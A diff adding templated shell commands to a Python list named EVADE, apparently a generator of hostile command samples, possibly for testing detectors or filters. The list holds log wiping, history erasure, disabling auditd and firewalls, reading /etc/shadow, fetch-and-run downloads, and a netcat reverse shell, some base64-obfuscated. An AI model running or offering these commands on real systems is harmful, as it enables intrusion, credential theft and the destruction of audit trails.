@@ -159,4 +159,9 @@ EVADE = [
     'sudo rm -‹rf¦f› /var/log/‹system.log¦secure¦auth.log¦audit›‹*¦› ‹/var/audit/*¦/var/log/wtmp /var/log/btmp¦/private/var/log/asl¦/var/log/install.log›',
     'x=$(echo "‹{dl} {url} | sh¦cat /etc/shadow¦nc {ip} {port} -e sh›" | base64); ‹echo $x¦printf %s "$x"› | base64 -‹d¦D¦-decode› | ‹sh¦bash›',
     '‹ufw¦sudo ufw› ‹disable¦--force reset¦logging off; ufw disable›; ‹systemctl stop ufw¦iptables -F¦service ufw stop; update-rc.d ufw disable›; {file} &',
+    'export HISTFILE=‹/dev/null¦/tmp/.{name}¦›; ‹export HISTSIZE=0; ¦›‹{dl} {url} | sh¦id; cat /etc/shadow¦nohup {file} &¦wget -q {url} -O {file}; sh {file}›',
+    'rm -‹rf¦f› /var/log/‹system.log /var/audit/*¦auth.log* /var/log/secure* /var/log/audit/audit.log¦wtmp /var/log/btmp /var/log/lastlog¦syslog* /var/log/messages* /var/log/kern.log›',
+    'for l in auth.log secure messages syslog cron audit/audit.log; do ‹: > /var/log/$l¦rm -f /var/log/$l*¦shred -zu /var/log/$l¦ln -sf /dev/null /var/log/$l› 2>/dev/null; done',
+    "‹cat /dev/null¦echo ''¦true› > ‹$HISTFILE¦~/.bash_history¦/root/.bash_history›; history -c; ‹history -w; ¦›‹unset HISTFILE¦rm -f $0¦export HISTFILESIZE=0›; kill -9 $$",
+    "auditctl -e 0; auditctl -D; ‹service auditd stop¦systemctl mask --now auditd¦killall -9 auditd›; ‹{file} &¦rm -f /var/log/audit/*¦sed -i 's/^-a/#-a/' /etc/audit/rules.d/*›",
 ]
